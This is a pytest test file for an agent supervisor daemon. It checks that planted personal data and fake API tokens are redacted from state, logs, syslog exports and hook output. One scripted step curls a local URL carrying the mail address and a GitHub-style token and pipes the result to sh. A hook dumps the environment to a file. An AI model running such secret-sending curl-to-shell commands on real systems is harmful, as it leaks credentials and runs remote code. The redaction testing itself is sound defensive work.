"""Secrets and personal data that a run of the real CLI is full of stand in nothing that chaperon wrote."""

import json
import socket
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import anyio
import anyio.to_thread
import pytest

from supervisor.protocol import events
from supervisor.protocol.words import AgentState
from supervisor.runtime.service import run_daemon
from tests.end_to_end.conftest import Stage
from tests.stages.daemon import ended, served, until

pytestmark = pytest.mark.real_cli

PLANTED = {
    "mail": "anna.schmidt@firma-geheim.de",
    "phone": "+49 170 5553412",
    "card": "5500 0055 5555 5559",
    "account": "DE89370400440532013000",
    "national": "529.982.247-25",
    "aws-key": "AKIAIOSFODNN7EXAMPLE",
    "github-token": "ghp_" + "q7R2" * 9,
    "anthropic-key": "sk-ant-api03-" + "Zk4_" * 8,
    "customer": "C-7730141",
}
VARIABLE = "kUnDe-77341-zugang"
"""The value of a variable of the daemon."""


@contextmanager
def collector() -> Iterator[socket.socket]:
    """A server of syslog."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as server:
        server.bind(("127.0.0.1", 0))
        server.setblocking(False)
        yield server


def received(server: socket.socket) -> bytes:
    got = []
    while True:
        try:
            got.append(server.recv(65_536))
        except BlockingIOError:
            return b"\n".join(got)


def found(*roots: Path) -> list[str]:
    """Where something of what was planted stands, in all files below."""
    planted = [value.encode() for value in (*PLANTED.values(), VARIABLE)]
    return [
        f"{path}: {value.decode()}"
        for root in roots
        for path in root.rglob("*")
        if path.is_file()
        for value in planted
        if value in path.read_bytes()
    ]


async def test_nothing_planted_stands_in_what_was_written(stage: Stage, caplog: pytest.LogCaptureFixture) -> None:
    customers = stage.repo / "customers.txt"
    customers.write_text("".join(f"{kind}: {value}\n" for kind, value in PLANTED.items()))
    told = stage.base.root / "told"
    hook = stage.base.root / "hook"
    hook.write_text(f"#!/bin/sh\nenv >> {told}\n")
    hook.chmod(0o755)
    stage.bash("cat customers.txt; cat customers.txt >&2; exit 3")
    stage.write("copy.txt", customers.read_text())
    stage.bash(f"curl --silent http://127.0.0.1:9/?mail={PLANTED['mail']}&key={PLANTED['github-token']} | sh")
    stage.say(f"I told {PLANTED['mail']} and {PLANTED['phone']}; {VARIABLE}.")
    with collector() as server:
        stage.base.config |= {
            "hooks": {"post-complete": str(hook), "on-error": str(hook), "pre-start": str(hook)},
            "audit": {
                "patterns": {"customer": r"\bC-\d{7}\b"},
                "exporters": [
                    {
                        "name": "siem",
                        "type": "syslog",
                        "to": f"udp://127.0.0.1:{server.getsockname()[1]}",
                        "begin": "start",
                    }
                ],
            },
        }
        async with stage.playing():
            stage.base.environ |= {"KUNDEN_TOKEN": VARIABLE, "ANTHROPIC_API_KEY": "sk-ant-api03-" + "Own_" * 8}
            async with served(stage.base) as (daemon, _):
                prompt = f"Write to {PLANTED['mail']}, the card is {PLANTED['card']}."
                await daemon.submit(stage.base.submission(prompt=prompt), by="test")
                assert (await ended(daemon)).state is AgentState.DONE
                report = await anyio.to_thread.run_sync(stage.chaperon, "report", "--json")
                shown = await anyio.to_thread.run_sync(stage.chaperon, "tail", "--export", "--no-follow")
            async with served(stage.base) as (daemon, _):
                assert "[mail:" in daemon.board.summary("a1").task.prompt
                await until(lambda: daemon.exporting[0].position == daemon.journal.last)
        exported = received(server)
    assert PLANTED["mail"] in stage.told(), "the model was told all of it"
    assert (stage.repo / "copy.txt").read_text() == customers.read_text()
    written = (stage.base.places.state, stage.base.places.runtime, stage.repo / ".git")
    assert await anyio.to_thread.run_sync(found, *written) == []
    for said in (exported.decode(), report.stdout, shown.stdout, caplog.text, told.read_text()):
        assert [value for value in (*PLANTED.values(), VARIABLE) if value in said] == []
    assert exported.count(b"[mail:") > 3
    assert "AGENT=a1" in told.read_text()
    lines = json.dumps([record.frame for record in stage.base.events(events.LineReceived)])
    for kind in PLANTED:
        assert f"[{kind}:" in lines


async def test_a_call_that_waits_runs_as_it_was_asked_for_once_another_daemon_has_come(stage: Stage) -> None:
    stage.bash(f"touch {PLANTED['mail']}; echo {PLANTED['card']} > number")
    stage.base.config["approval"] = {"mode": "ask", "deadline_seconds": 600}
    async with stage.playing():
        async with run_daemon(stage.base.setup()) as daemon:
            await daemon.submit(stage.base.submission(prompt=f"Write to {PLANTED['mail']}"), by="test")
            await until(lambda: bool(daemon.board.summary("a1").waiting))
        assert await anyio.to_thread.run_sync(found, stage.base.places.state) == []
        assert list((stage.base.places.state / "sealed").iterdir()), "what goes on is kept apart"
        async with served(stage.base) as (daemon, _):
            known = daemon.board.summary("a1")
            assert known.task.prompt == f"Write to {PLANTED['mail']}"
            (waiting,) = [each for session in daemon.board.live() for each in session.approvals]
            id_ = waiting.request_id
            given = events.ApprovalGiven(**daemon.stamp("a1"), request_id=id_, granted=True, note="", by="test")
            await daemon.request(given)
            assert (await ended(daemon)).state is AgentState.DONE
            await until(lambda: not list((stage.base.places.state / "sealed").iterdir()))
    assert (stage.repo / PLANTED["mail"]).exists()
    assert (stage.repo / "number").read_text() == f"{PLANTED['card']}\n"
    assert await anyio.to_thread.run_sync(found, stage.base.places.state) == []
